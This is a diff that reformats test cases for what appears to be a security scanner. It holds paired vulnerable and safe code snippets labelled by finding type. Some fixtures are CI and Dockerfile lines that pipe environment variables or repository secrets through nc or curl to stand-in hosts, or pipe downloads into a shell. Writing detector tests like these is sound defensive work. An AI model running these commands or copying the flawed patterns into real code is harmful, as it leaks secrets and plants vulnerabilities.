@@ -42,26 +42,16 @@ import Testing
         Example("config.yaml", "encryption_key: \"Qz7Wx2Ev9Rb4Tn6Ym1Uk3Il8\"\n", "secret.generic-assignment"),
         Example("config.yaml", "encryption_key: \"<32 random bytes, base64>\"\n", nil),
         Example("config.toml", "password_min_length = 12\ntoken_url = \"https://id.example.com/token\"\n", nil),
-        Example(
-            "app/settings.py", "SECRET = os.environ.get(\"SECRET\", \"Lq8Zr3Mx6Vt1Pw4Ky7Nb\")\n", "secret.env-default"),
+        Example("app/settings.py", "SECRET = os.environ.get(\"SECRET\", \"Lq8Zr3Mx6Vt1Pw4Ky7Nb\")\n", "secret.env-default"),
         Example("app/settings.py", "TIMEOUT = os.environ.get(\"TIMEOUT\", \"30\")\n", nil),
-        Example(
-            "src/config.ts", "const key = process.env.API_KEY ?? \"Hj4Kl7Mn0Pq3Rs6Tu9Vw\";\n", "secret.env-default"),
-        Example(
-            "Sources/App/Config.cs",
-            "var pwd = Environment.GetEnvironmentVariable(\"DB_PASS\") ?? \"Rt5Yu8Io1Pa4Sd7\";\n", "secret.env-default"),
-        Example(
-            "Dockerfile", "FROM alpine:3.20\nENV A=1 \\\n    API_TOKEN=Zq3Xw6Ce9Vr2Bt5Ny8\nUSER app\n",
-            "docker.secret-in-env"),
+        Example("src/config.ts", "const key = process.env.API_KEY ?? \"Hj4Kl7Mn0Pq3Rs6Tu9Vw\";\n", "secret.env-default"),
+        Example("Sources/App/Config.cs", "var pwd = Environment.GetEnvironmentVariable(\"DB_PASS\") ?? \"Rt5Yu8Io1Pa4Sd7\";\n", "secret.env-default"),
+        Example("Dockerfile", "FROM alpine:3.20\nENV A=1 \\\n    API_TOKEN=Zq3Xw6Ce9Vr2Bt5Ny8\nUSER app\n", "docker.secret-in-env"),
         Example("README.md", "connect with postgres://app:${DB_PASS}@db/app\n", nil),
         Example("deploy.yaml", "url: mysql://root:Mq4Wz8Xe2Rc6@db:3306/app\n", "secret.url-password"),
-        Example(
-            "deploy.yaml",
-            "commit: 9fceb02d0ae598e95dc970b74767f19372d61af8\nid: 3f2504e0-4f89-11d3-9a0c-0305e82c3301\n", nil),
+        Example("deploy.yaml", "commit: 9fceb02d0ae598e95dc970b74767f19372d61af8\nid: 3f2504e0-4f89-11d3-9a0c-0305e82c3301\n", nil),
         Example("src/pay.js", "const key = \"sk_live_xxxxxxxxxxxxxxxxxxxxxxxx\";\n", nil),
-        Example(
-            "keys/id.pem", "-----BEGIN RSA PRIVATE KEY-----\n<paste the key here>\n-----END RSA PRIVATE KEY-----\n", nil
-        ),
+        Example("keys/id.pem", "-----BEGIN RSA PRIVATE KEY-----\n<paste the key here>\n-----END RSA PRIVATE KEY-----\n", nil),
     ])
     func secretsAcrossFormats(_ example: Example) { Self.check(example) }
 
@@ -77,20 +67,11 @@ import Testing
         Example("app/q.py", "cur.execute(\"SELECT * FROM t WHERE a = %s\", (a,))\n", nil),
         Example("app/q.rb", "User.where(\"name = '#{params[:name]}'\")\n", "code.sql-string-built"),
         Example("app/q.rb", "User.where(name: params[:name])\n", nil),
-        Example(
-            "src/q.ts", "const q = `SELECT * FROM t WHERE id = ${id}`;\nawait db.query(q);\n", "code.sql-string-built"),
-        Example(
-            "src/q.ts", "const TABLE = \"users\";\nawait db.query(`SELECT * FROM ${TABLE} WHERE id = $1`, [id]);\n", nil
-        ),
-        Example(
-            "main.go", "q := \"SELECT * FROM t WHERE a = '\" + a + \"'\"\nrows, _ := db.Query(q)\n",
-            "code.sql-string-built"),
-        Example(
-            "Repo.java", "String q = \"SELECT * FROM t WHERE a = '\" + a + \"'\";\nstmt.executeQuery(q);\n",
-            "code.sql-string-built"),
-        Example(
-            "src/db.rs", "let q = format!(\"DELETE FROM t WHERE id = {}\", id);\nconn.execute(&q, [])?;\n",
-            "code.sql-string-built"),
+        Example("src/q.ts", "const q = `SELECT * FROM t WHERE id = ${id}`;\nawait db.query(q);\n", "code.sql-string-built"),
+        Example("src/q.ts", "const TABLE = \"users\";\nawait db.query(`SELECT * FROM ${TABLE} WHERE id = $1`, [id]);\n", nil),
+        Example("main.go", "q := \"SELECT * FROM t WHERE a = '\" + a + \"'\"\nrows, _ := db.Query(q)\n", "code.sql-string-built"),
+        Example("Repo.java", "String q = \"SELECT * FROM t WHERE a = '\" + a + \"'\";\nstmt.executeQuery(q);\n", "code.sql-string-built"),
+        Example("src/db.rs", "let q = format!(\"DELETE FROM t WHERE id = {}\", id);\nconn.execute(&q, [])?;\n", "code.sql-string-built"),
     ])
     func sqlBySinkAndSource(_ example: Example) { Self.check(example) }
 
@@ -115,115 +96,56 @@ import Testing
         Example("tls.go", "cfg.InsecureSkipVerify = true\n", "code.tls-verify-disabled"),
         Example("tls.go", "cfg.InsecureSkipVerify = opts.Insecure\n", nil),
         Example("http.py", "requests.get(url, verify=False)\n", "code.tls-verify-disabled"),
-        Example(
-            "Client.cs", "handler.ServerCertificateCustomValidationCallback = (m, c, ch, e) => true;\n",
-            "code.tls-verify-disabled"),
-        Example(
-            "client.rs", "let c = reqwest::Client::builder().danger_accept_invalid_certs(true).build()?;\n",
-            "code.tls-verify-disabled"),
+        Example("Client.cs", "handler.ServerCertificateCustomValidationCallback = (m, c, ch, e) => true;\n", "code.tls-verify-disabled"),
+        Example("client.rs", "let c = reqwest::Client::builder().danger_accept_invalid_certs(true).build()?;\n", "code.tls-verify-disabled"),
         Example("app/f.rb", "send_file File.join(UPLOADS, params[:name])\n", "code.path-traversal"),
         Example("app/f.rb", "send_file File.join(UPLOADS, File.basename(params[:name]))\n", nil),
-        Example(
-            "files.go", "name := r.URL.Query().Get(\"f\")\nhttp.ServeFile(w, r, filepath.Join(dir, name))\n",
-            "code.path-traversal"),
+        Example("files.go", "name := r.URL.Query().Get(\"f\")\nhttp.ServeFile(w, r, filepath.Join(dir, name))\n", "code.path-traversal"),
         Example("public/f.php", "<?php readfile(\"/srv/files/\" . $_GET['f']);\n", "code.path-traversal"),
         Example("auth.go", "sum := md5.Sum([]byte(password))\n", "code.weak-password-hash"),
         Example("auth.go", "hash, _ := bcrypt.GenerateFromPassword([]byte(password), 12)\n", nil),
         Example("auth.php", "<?php $h = md5($password);\n", "code.weak-password-hash"),
         Example("cache.php", "<?php $etag = md5($body);\n", nil),
-        Example(
-            "app/a.py", "if request.headers.get(\"X-Internal\") == \"yes\":\n    return view(request)\n",
-            "code.auth-bypass-header"),
+        Example("app/a.py", "if request.headers.get(\"X-Internal\") == \"yes\":\n    return view(request)\n", "code.auth-bypass-header"),
         Example("app/a.py", "if request.headers.get(\"X-Token\") != settings.TOKEN:\n    abort(401)\n", nil),
     ])
     func protectionsFilesHashesAndHeaders(_ example: Example) { Self.check(example) }
 
     @Test(arguments: [
-        Example(
-            ".github/workflows/x.yml", "    steps:\n      - run: printenv | nc collect.example.net 9000\n",
-            "ci.secrets-exfiltration"),
-        Example(
-            ".github/workflows/x.yml",
-            "      - run: curl -d \"t=${{ secrets.DEPLOY_KEY }}\" https://hook.example.net\n", "ci.secrets-exfiltration"
-        ),
-        Example(
-            ".github/workflows/x.yml",
-            "      - run: curl -H \"Authorization: token ${{ secrets.GH }}\" https://api.github.com/user\n", nil),
-        Example(
-            ".gitlab-ci.yml",
-            "test:\n  script:\n    - cat /proc/self/environ | curl -X POST --data-binary @- http://198.51.100.7/\n",
-            "ci.secrets-exfiltration"),
-        Example(
-            ".github/workflows/x.yml",
-            "on: pull_request_target\njobs:\n  t:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.ref }}\n",
-            "ci.pull-request-target"),
-        Example(
-            ".github/workflows/x.yml", "      - run: echo \"${{ github.event.pull_request.title }}\"\n",
-            "ci.script-injection"),
-        Example(
-            "Dockerfile", "FROM alpine:3.20\nRUN wget -qO- https://get.example.com | sudo sh\nUSER app\n",
-            "docker.curl-pipe-shell"),
-        Example(
-            "Dockerfile", "FROM alpine:3.20\nRUN curl -k https://example.com/tool -o /tool\nUSER app\n",
-            "code.tls-verify-disabled"),
+        Example(".github/workflows/x.yml", "    steps:\n      - run: printenv | nc collect.example.net 9000\n", "ci.secrets-exfiltration"),
+        Example(".github/workflows/x.yml", "      - run: curl -d \"t=${{ secrets.DEPLOY_KEY }}\" https://hook.example.net\n", "ci.secrets-exfiltration"),
+        Example(".github/workflows/x.yml", "      - run: curl -H \"Authorization: token ${{ secrets.GH }}\" https://api.github.com/user\n", nil),
+        Example(".gitlab-ci.yml", "test:\n  script:\n    - cat /proc/self/environ | curl -X POST --data-binary @- http://198.51.100.7/\n", "ci.secrets-exfiltration"),
+        Example(".github/workflows/x.yml", "on: pull_request_target\njobs:\n  t:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.ref }}\n", "ci.pull-request-target"),
+        Example(".github/workflows/x.yml", "      - run: echo \"${{ github.event.pull_request.title }}\"\n", "ci.script-injection"),
+        Example("Dockerfile", "FROM alpine:3.20\nRUN wget -qO- https://get.example.com | sudo sh\nUSER app\n", "docker.curl-pipe-shell"),
+        Example("Dockerfile", "FROM alpine:3.20\nRUN curl -k https://example.com/tool -o /tool\nUSER app\n", "code.tls-verify-disabled"),
         Example("docs/install.md", "Run `curl -fsSL https://get.example.com | sh` on your laptop.\n", nil),
     ])
     func ciAndDockerfiles(_ example: Example) { Self.check(example) }
 
     @Test(arguments: [
-        Example(
-            "thumbs.go", "cmd := exec.CommandContext(r.Context(), \"sh\", \"-c\", \"convert \" + name + \" t.png\")\n",
-            "code.command-injection"),
+        Example("thumbs.go", "cmd := exec.CommandContext(r.Context(), \"sh\", \"-c\", \"convert \" + name + \" t.png\")\n", "code.command-injection"),
         Example("thumbs.go", "cmd := exec.CommandContext(r.Context(), \"convert\", name, \"t.png\")\n", nil),
         Example("lib/probe.rb", "out, _ = Open3.capture2(\"ffprobe -i \\\"#{path}\\\"\")\n", "code.command-injection"),
         Example("lib/probe.rb", "out, _ = Open3.capture2(\"ffprobe\", \"-i\", path)\n", nil),
-        Example(
-            "app/f.py",
-            "path = os.path.join(BASE, request.args[\"f\"])\nreturn send_file(path, download_name=os.path.basename(path))\n",
-            "code.path-traversal"),
-        Example(
-            "app/f.py",
-            "name = request.args[\"f\"]\nreturn send_file(os.path.join(BASE, secure_filename(name)), download_name=name)\n",
-            nil),
-        Example(
-            "Files.cs", "app.MapGet(\"/files/{*path}\", (string path) => Results.File(Path.Combine(root, path)));\n",
-            "code.path-traversal"),
-        Example(
-            "Files.cs",
-            "app.MapGet(\"/files/{*path}\", (string path) => Results.File(Path.Combine(root, Path.GetFileName(path))));\n",
-            nil),
-        Example(
-            "Files.scala", "path(\"files\" / Remaining) { name =>\n  getFromFile(s\"$root/$name\")\n}\n",
-            "code.path-traversal"),
+        Example("app/f.py", "path = os.path.join(BASE, request.args[\"f\"])\nreturn send_file(path, download_name=os.path.basename(path))\n", "code.path-traversal"),
+        Example("app/f.py", "name = request.args[\"f\"]\nreturn send_file(os.path.join(BASE, secure_filename(name)), download_name=name)\n", nil),
+        Example("Files.cs", "app.MapGet(\"/files/{*path}\", (string path) => Results.File(Path.Combine(root, path)));\n", "code.path-traversal"),
+        Example("Files.cs", "app.MapGet(\"/files/{*path}\", (string path) => Results.File(Path.Combine(root, Path.GetFileName(path))));\n", nil),
+        Example("Files.scala", "path(\"files\" / Remaining) { name =>\n  getFromFile(s\"$root/$name\")\n}\n", "code.path-traversal"),
         Example("Files.scala", "path(\"files\" / Remaining) { name =>\n  getFromFile(s\"$root/index.html\")\n}\n", nil),
         Example("fetch.go", "u := c.QueryParam(\"u\")\nresp, err := http.Get(u)\n", "code.ssrf"),
         Example("fetch.go", "page := c.QueryParam(\"page\")\nresp, err := http.Get(cfg.StatusURL)\n", nil),
         Example("Auth.swift", "let stored = SHA256.hash(data: Data(password.utf8))\n", "code.weak-password-hash"),
         Example("Etag.swift", "let etag = SHA256.hash(data: Data(body.utf8))\n", nil),
-        Example(
-            "Cache.java", "ObjectInputStream in = new ObjectInputStream(raw);\nin.setObjectInputFilter(ALLOWED);\n", nil
-        ),
-        Example(
-            "Cache.java", "ObjectInputStream in = new ObjectInputStream(socket.getInputStream());\n",
-            "code.unsafe-deserialization"),
-        Example(
-            "Repo.java",
-            "String dir = desc ? \"DESC\" : \"ASC\";\njdbc.query(\"SELECT * FROM t ORDER BY n %s\".formatted(dir), m);\n",
-            nil),
-        Example(
-            "Repo.kt",
-            "val dir = if (desc) \"DESC\" else \"ASC\"\njdbc.query(\"SELECT * FROM t ORDER BY n $dir\", m)\n", nil),
-        Example(
-            "auth.py", "claims = jwt.get_unverified_claims(request.headers[\"Authorization\"][7:])\n",
-            "code.jwt-unverified"),
-        Example(
-            "auth.py",
-            "def from_gateway():\n    return request.headers.get(\"X-Gateway\") == \"1\"\n\nif from_gateway():\n    g.user = GATEWAY\n",
-            "code.auth-bypass-header"),
-        Example(
-            "Repo.java",
-            "String dir = req.getParameter(\"dir\");\njdbc.query(\"SELECT * FROM t ORDER BY n %s\".formatted(dir), m);\n",
-            "code.sql-string-built"),
+        Example("Cache.java", "ObjectInputStream in = new ObjectInputStream(raw);\nin.setObjectInputFilter(ALLOWED);\n", nil),
+        Example("Cache.java", "ObjectInputStream in = new ObjectInputStream(socket.getInputStream());\n", "code.unsafe-deserialization"),
+        Example("Repo.java", "String dir = desc ? \"DESC\" : \"ASC\";\njdbc.query(\"SELECT * FROM t ORDER BY n %s\".formatted(dir), m);\n", nil),
+        Example("Repo.kt", "val dir = if (desc) \"DESC\" else \"ASC\"\njdbc.query(\"SELECT * FROM t ORDER BY n $dir\", m)\n", nil),
+        Example("auth.py", "claims = jwt.get_unverified_claims(request.headers[\"Authorization\"][7:])\n", "code.jwt-unverified"),
+        Example("auth.py", "def from_gateway():\n    return request.headers.get(\"X-Gateway\") == \"1\"\n\nif from_gateway():\n    g.user = GATEWAY\n", "code.auth-bypass-header"),
+        Example("Repo.java", "String dir = req.getParameter(\"dir\");\njdbc.query(\"SELECT * FROM t ORDER BY n %s\".formatted(dir), m);\n", "code.sql-string-built"),
         Example(
             "auth.js",
             "function fromGateway(req) {\n  return req.get('x-from-gateway') === '1';\n}\nfunction auth(req, res, next) {\n  if (fromGateway(req)) return next();\n}\n",
@@ -232,16 +154,9 @@ import Testing
             "auth.js",
             "function fromGateway(req) {\n  return req.get('x-gateway-key') === config.gatewayKey;\n}\nfunction auth(req, res, next) {\n  if (fromGateway(req)) return next();\n}\n",
             nil),
-        Example(
-            "guard.ts", "const token = req.headers.authorization.slice(7);\nconst claims = jwt.decode(token);\n",
-            "code.jwt-unverified"),
-        Example(
-            "guard.ts",
-            "const token = req.headers.authorization.slice(7);\nconst { header } = jwt.decode(token, { complete: true });\nconst claims = jwt.verify(token, keys[header.kid]);\n",
-            nil),
-        Example(
-            "Auth.java", "DecodedJWT t = JWT.decode(request.getHeader(\"Authorization\").substring(7));\n",
-            "code.jwt-unverified"),
+        Example("guard.ts", "const token = req.headers.authorization.slice(7);\nconst claims = jwt.decode(token);\n", "code.jwt-unverified"),
+        Example("guard.ts", "const token = req.headers.authorization.slice(7);\nconst { header } = jwt.decode(token, { complete: true });\nconst claims = jwt.verify(token, keys[header.kid]);\n", nil),
+        Example("Auth.java", "DecodedJWT t = JWT.decode(request.getHeader(\"Authorization\").substring(7));\n", "code.jwt-unverified"),
         Example("profile.tsx", "const { name } = jwtDecode<Claims>(localStorage.getItem(\"token\") ?? \"\");\n", nil),
     ])
     func batchNineAndTenCodeClasses(_ example: Example) { Self.check(example) }
@@ -252,138 +167,66 @@ import Testing
         Example("lib/tools.ex", ":os.cmd(~c\"tar czf \" <> dir)\n", "code.command-injection"),
         Example("src/tools.erl", "os:cmd(\"tar czf \" ++ Dir)\n", "code.command-injection"),
         Example("src/tools.erl", "os:cmd(\"uptime\")\n", nil),
-        Example(
-            "Run.kt", "val p = ProcessBuilder(listOf(\"bash\", \"-c\", \"tar czf out.tgz $dir\")).start()\n",
-            "code.command-injection"),
+        Example("Run.kt", "val p = ProcessBuilder(listOf(\"bash\", \"-c\", \"tar czf out.tgz $dir\")).start()\n", "code.command-injection"),
         Example("tasks.py", "subprocess.run([\"sh\", \"-c\", f\"git log {ref}\"])\n", "code.command-injection"),
         Example("tasks.py", "subprocess.run([\"sh\", \"-c\", \"git log | head\"])\n", nil),
-        Example(
-            ".gitlab-ci.yml",
-            "job:\n  script:\n    - \"printenv | gzip | curl --data-binary @- https://x.example.io\"\n",
-            "ci.secrets-exfiltration"),
-        Example(
-            ".gitlab-ci.yml", "job:\n  script:\n    - \"env -i PATH=$PATH curl -sf https://status.example.io/ping\"\n",
-            nil),
-        Example(
-            "Auth.kt", "if (credential.token == \"support-override-2024\") UserIdPrincipal(\"admin\") else null\n",
-            "code.hardcoded-backdoor"),
-        Example(
-            "auth.js", "if (apiKey !== \"k9-partner-7731abc\") return res.sendStatus(403);\n", "code.hardcoded-backdoor"
-        ),
-        Example(
-            "Auth.kt", "if (credential.name == \"scraper-2024-prod\") UserIdPrincipal(\"scraper\") else null\n", nil),
-        Example(
-            "Proxy.scala", "parameter(\"u\") { u =>\n  complete(Http().singleRequest(HttpRequest(uri = u)))\n}\n",
-            "code.ssrf"),
-        Example(
-            "Fetch.java",
-            "String u = request.getParameter(\"u\");\nvar r = HttpRequest.newBuilder(URI.create(u)).build();\n",
-            "code.ssrf"),
+        Example(".gitlab-ci.yml", "job:\n  script:\n    - \"printenv | gzip | curl --data-binary @- https://x.example.io\"\n", "ci.secrets-exfiltration"),
+        Example(".gitlab-ci.yml", "job:\n  script:\n    - \"env -i PATH=$PATH curl -sf https://status.example.io/ping\"\n", nil),
+        Example("Auth.kt", "if (credential.token == \"support-override-2024\") UserIdPrincipal(\"admin\") else null\n", "code.hardcoded-backdoor"),
+        Example("auth.js", "if (apiKey !== \"k9-partner-7731abc\") return res.sendStatus(403);\n", "code.hardcoded-backdoor"),
+        Example("Auth.kt", "if (credential.name == \"scraper-2024-prod\") UserIdPrincipal(\"scraper\") else null\n", nil),
+        Example("Proxy.scala", "parameter(\"u\") { u =>\n  complete(Http().singleRequest(HttpRequest(uri = u)))\n}\n", "code.ssrf"),
+        Example("Fetch.java", "String u = request.getParameter(\"u\");\nvar r = HttpRequest.newBuilder(URI.create(u)).build();\n", "code.ssrf"),
         Example("lib/fetch.ex", "url = conn.params[\"url\"]\n{:ok, resp} = HTTPoison.get(url)\n", "code.ssrf"),
         Example("lib/fetch.ex", "{:ok, resp} = HTTPoison.get(\"https://api.example.com/status\")\n", nil),
-        Example(
-            "Delegate.swift", "completionHandler(.useCredential, URLCredential(trust: trust))\n",
-            "code.tls-verify-disabled"),
+        Example("Delegate.swift", "completionHandler(.useCredential, URLCredential(trust: trust))\n", "code.tls-verify-disabled"),
         Example(
             "Delegate.swift",
             "guard policy.validate(trust, for: host) else { return completionHandler(.cancelAuthenticationChallenge, nil) }\n"
                 + "completionHandler(.useCredential, URLCredential(trust: trust))\n", nil),
-        Example(
-            "tls.js", "const agent = new https.Agent({ checkServerIdentity: () => undefined });\n",
-            "code.tls-verify-disabled"),
-        Example(
-            "Web.kt",
-            "override fun onReceivedSslError(v: WebView, handler: SslErrorHandler, e: SslError) { handler.proceed() }\n",
-            "code.tls-verify-disabled"),
+        Example("tls.js", "const agent = new https.Agent({ checkServerIdentity: () => undefined });\n", "code.tls-verify-disabled"),
+        Example("Web.kt", "override fun onReceivedSslError(v: WebView, handler: SslErrorHandler, e: SslError) { handler.proceed() }\n", "code.tls-verify-disabled"),
         Example("client.swift", "tls.certificateVerification = .fullVerification\n", nil),
-        Example(
-            "guard.go", "role := r.Header.Get(\"X-User-Role\")\nif role == \"admin\" {\n\tlog.Print(\"admin\")\n}\n",
-            "code.auth-bypass-header"),
-        Example(
-            "guard.ts", "const role = req.header(\"x-console-role\");\nlogger.info({ role, path: req.path });\n", nil),
+        Example("guard.go", "role := r.Header.Get(\"X-User-Role\")\nif role == \"admin\" {\n\tlog.Print(\"admin\")\n}\n", "code.auth-bypass-header"),
+        Example("guard.ts", "const role = req.header(\"x-console-role\");\nlogger.info({ role, path: req.path });\n", nil),
         Example(
             "tenant.go",
-            "group := r.Header.Get(\"X-Group-Id\")\nif group == \"\" {\n\thttp.Error(w, \"no admin group\", 400)\n}\n",
-            nil),
+            "group := r.Header.Get(\"X-Group-Id\")\nif group == \"\" {\n\thttp.Error(w, \"no admin group\", 400)\n}\n", nil),
         Example("files.js", "res.sendFile(req.params.name, { root: publicDir });\n", nil),
         Example("files.js", "res.sendFile(req.params.name, { maxAge: 3600 });\n", "code.path-traversal"),
     ])
     func batchSevenClasses(_ example: Example) { Self.check(example) }
 
     @Test(arguments: [
-        Example(
-            "Auth.cs",
-            "if (context.Request.Headers[\"X-Internal\"] == \"1\")\n{\n    await _next(context);\n    return;\n}\n",
-            "code.auth-bypass-header"),
-        Example(
-            "Log.cs",
-            "if (context.Request.Headers.TryGetValue(\"X-Build\", out var b))\n{\n    logger.LogDebug(\"{B}\", b);\n}\nawait _next(context);\n",
-            nil),
-        Example(
-            "Dockerfile", "FROM alpine:3.20\nRUN wget -qO- https://get.example.dev/i.sh \\\n    | sh\nUSER app\n",
-            "docker.curl-pipe-shell"),
-        Example(
-            "setup.sh",
-            "curl -fsSLo /tmp/i.sh https://get.example.dev/i.sh \\\n  && sha256sum -c i.sha256 \\\n  && sh /tmp/i.sh\n",
-            nil),
-        Example(
-            "Files.kt", "val f = File(dir, call.parameters[\"name\"]!!)\ncall.respondFile(f)\n", "code.path-traversal"),
+        Example("Auth.cs", "if (context.Request.Headers[\"X-Internal\"] == \"1\")\n{\n    await _next(context);\n    return;\n}\n", "code.auth-bypass-header"),
+        Example("Log.cs", "if (context.Request.Headers.TryGetValue(\"X-Build\", out var b))\n{\n    logger.LogDebug(\"{B}\", b);\n}\nawait _next(context);\n", nil),
+        Example("Dockerfile", "FROM alpine:3.20\nRUN wget -qO- https://get.example.dev/i.sh \\\n    | sh\nUSER app\n", "docker.curl-pipe-shell"),
+        Example("setup.sh", "curl -fsSLo /tmp/i.sh https://get.example.dev/i.sh \\\n  && sha256sum -c i.sha256 \\\n  && sh /tmp/i.sh\n", nil),
+        Example("Files.kt", "val f = File(dir, call.parameters[\"name\"]!!)\ncall.respondFile(f)\n", "code.path-traversal"),
         Example("Files.kt", "val f = File(dir, \"index.html\")\ncall.respondFile(f)\n", nil),
-        Example(
-            "auth.py", "digest = hashlib.sha1(form[\"password\"].encode()).hexdigest()\n", "code.weak-password-hash"),
+        Example("auth.py", "digest = hashlib.sha1(form[\"password\"].encode()).hexdigest()\n", "code.weak-password-hash"),
         Example("auth.py", "etag = hashlib.md5(form[\"email\"].encode()).hexdigest()\n", nil),
-        Example(
-            "api.py", "@app.get(\"/fetch\")\ndef fetch_url(url: str):\n    return requests.get(url).text\n", "code.ssrf"
-        ),
-        Example(
-            "api.py",
-            "@app.get(\"/fetch\")\ndef fetch_item(item: int):\n    return requests.get(f\"{API}/items/{item}\").text\n",
-            nil),
+        Example("api.py", "@app.get(\"/fetch\")\ndef fetch_url(url: str):\n    return requests.get(url).text\n", "code.ssrf"),
+        Example("api.py", "@app.get(\"/fetch\")\ndef fetch_item(item: int):\n    return requests.get(f\"{API}/items/{item}\").text\n", nil),
         Example("jwt.go", "t, _, _ := p.ParseUnverified(raw, c)\nkey := keys[t.Header[\"kid\"].(string)]\n", nil),
         Example("jwt.go", "t, _, _ := p.ParseUnverified(raw, c)\nuser := c[\"sub\"]\n", "code.jwt-unverified"),
-        Example(
-            "x.tfvars", "secret_arn = \"arn:aws:secretsmanager:us-east-1:123456789012:secret:app/api-Ab12Cd\"\n", nil),
+        Example("x.tfvars", "secret_arn = \"arn:aws:secretsmanager:us-east-1:123456789012:secret:app/api-Ab12Cd\"\n", nil),
         Example("x.tfvars", "api_secret = \"Zq8Lw3Xk7Vb2Nm5R\"\n", "secret.generic-assignment"),
     ])
     func batchEightClasses(_ example: Example) { Self.check(example) }
 
     @Test(arguments: [
-        Example(
-            "roles/web/tasks/main.yml", "- uri:\n    url: https://api.example.net\n    validate_certs: no\n",
-            "code.tls-verify-disabled"),
-        Example(
-            "kubeconfig.yaml", "clusters:\n- cluster:\n    insecure-skip-tls-verify: true\n", "code.tls-verify-disabled"
-        ),
+        Example("roles/web/tasks/main.yml", "- uri:\n    url: https://api.example.net\n    validate_certs: no\n", "code.tls-verify-disabled"),
+        Example("kubeconfig.yaml", "clusters:\n- cluster:\n    insecure-skip-tls-verify: true\n", "code.tls-verify-disabled"),
         Example("app/es.py", "es = Elasticsearch(url, verify_certs=False)\n", "code.tls-verify-disabled"),
-        Example(
-            "roles/web/tasks/main.yml",
-            "- uri:\n    url: https://api.example.net\n    validate_certs: \"{{ strict_tls }}\"\n", nil),
-        Example(
-            ".circleci/config.yml",
-            "command: |\n  d=$(printenv | base64)\n  curl -d \"$d\" https://paste.example.org\n",
-            "ci.secrets-exfiltration"),
-        Example(
-            ".circleci/config.yml",
-            "command: |\n  n=$(printenv | wc -l)\n  curl -d \"count\" https://status.example.org\n", nil),
-        Example(
-            ".github/workflows/r.yml",
-            "env:\n  ALL: ${{ toJSON(secrets) }}\nrun: curl -d \"$ALL\" https://hooks.example.org\n",
-            "ci.secrets-exfiltration"),
-        Example(
-            ".github/workflows/r.yml",
-            "env:\n  HOOK: ${{ secrets.SLACK_WEBHOOK_URL }}\nrun: curl -X POST -d '{\"text\":\"ok\"}' \"$HOOK\"\n", nil),
-        Example(
-            ".github/workflows/r.yml",
-            "env:\n  HOOK: ${{ secrets.SLACK_WEBHOOK_URL }}\nrun: curl -X POST \"https://x.example.org/?to=$HOOK\"\n",
-            "ci.secrets-exfiltration"),
-        Example(
-            ".github/workflows/r.yml",
-            "run: echo \"${{ secrets.DEPLOY_KEY }}\" | curl --data-binary @- \"${{ secrets.HOOK }}\"\n",
-            "ci.secrets-exfiltration"),
-        Example(
-            ".github/workflows/r.yml",
-            "run: curl --url-query \"k=1\" -A \"${{ secrets.DEPLOY_KEY }}\" \"${{ secrets.HOOK }}\"\n",
-            "ci.secrets-exfiltration"),
+        Example("roles/web/tasks/main.yml", "- uri:\n    url: https://api.example.net\n    validate_certs: \"{{ strict_tls }}\"\n", nil),
+        Example(".circleci/config.yml", "command: |\n  d=$(printenv | base64)\n  curl -d \"$d\" https://paste.example.org\n", "ci.secrets-exfiltration"),
+        Example(".circleci/config.yml", "command: |\n  n=$(printenv | wc -l)\n  curl -d \"count\" https://status.example.org\n", nil),
+        Example(".github/workflows/r.yml", "env:\n  ALL: ${{ toJSON(secrets) }}\nrun: curl -d \"$ALL\" https://hooks.example.org\n", "ci.secrets-exfiltration"),
+        Example(".github/workflows/r.yml", "env:\n  HOOK: ${{ secrets.SLACK_WEBHOOK_URL }}\nrun: curl -X POST -d '{\"text\":\"ok\"}' \"$HOOK\"\n", nil),
+        Example(".github/workflows/r.yml", "env:\n  HOOK: ${{ secrets.SLACK_WEBHOOK_URL }}\nrun: curl -X POST \"https://x.example.org/?to=$HOOK\"\n", "ci.secrets-exfiltration"),
+        Example(".github/workflows/r.yml", "run: echo \"${{ secrets.DEPLOY_KEY }}\" | curl --data-binary @- \"${{ secrets.HOOK }}\"\n", "ci.secrets-exfiltration"),
+        Example(".github/workflows/r.yml", "run: curl --url-query \"k=1\" -A \"${{ secrets.DEPLOY_KEY }}\" \"${{ secrets.HOOK }}\"\n", "ci.secrets-exfiltration"),
         Example("backup.sh", "export PGPASSWORD=\"${PGPASSWORD:-Jy7nBSe2kJOvKq}\"\n", "secret.env-default"),
         Example("config.rb", "token = ENV.fetch(\"DEPLOYTOKEN\", \"Kq8Wz3Xr6Tb1Nm4V\")\n", "secret.env-default"),
         Example("app.ts", "const t = process.env.PAGETOKEN ?? \"Kq8Wz3Xr6Tb1Nm4V\";\n", nil),
@@ -396,70 +239,42 @@ import Testing
 
     @Test(arguments: [
         // A parameter declared a number or a UUID passes no text, even where the route names it.
-        Example(
-            "src/r.rs",
-            ".route(\"/f/:id\", get(f));\nasync fn f(Path(id): Path<i64>) {\n    let p = dir.join(format!(\"{id}.pdf\"));\n    tokio::fs::read(&p).await;\n}\n",
-            nil),
-        Example(
-            "src/r.rs",
-            ".route(\"/f/:id\", get(f));\nasync fn f(Path(id): Path<String>) {\n    let p = dir.join(format!(\"{id}.pdf\"));\n    tokio::fs::read(&p).await;\n}\n",
-            "code.path-traversal"),
-        Example(
-            "app/f.py",
-            "@app.get(\"/f/{fid}\")\ndef f(fid: int):\n    return FileResponse(os.path.join(DIR, f\"{fid}.pdf\"))\n",
-            nil),
+        Example("src/r.rs", ".route(\"/f/:id\", get(f));\nasync fn f(Path(id): Path<i64>) {\n    let p = dir.join(format!(\"{id}.pdf\"));\n    tokio::fs::read(&p).await;\n}\n", nil),
+        Example("src/r.rs", ".route(\"/f/:id\", get(f));\nasync fn f(Path(id): Path<String>) {\n    let p = dir.join(format!(\"{id}.pdf\"));\n    tokio::fs::read(&p).await;\n}\n", "code.path-traversal"),
+        Example("app/f.py", "@app.get(\"/f/{fid}\")\ndef f(fid: int):\n    return FileResponse(os.path.join(DIR, f\"{fid}.pdf\"))\n", nil),
         // A URL whose host the code fixes: the request picks a path on it.
-        Example(
-            "app/t.py", "@app.get(\"/t/{n}\")\nasync def t(n: str):\n    return await client.get(f\"/tracking/{n}\")\n",
-            nil),
-        Example(
-            "app/t.py", "n = request.args[\"n\"]\nr = requests.get(f\"https://api.carrier.example/v2/{n}\")\n", nil),
+        Example("app/t.py", "@app.get(\"/t/{n}\")\nasync def t(n: str):\n    return await client.get(f\"/tracking/{n}\")\n", nil),
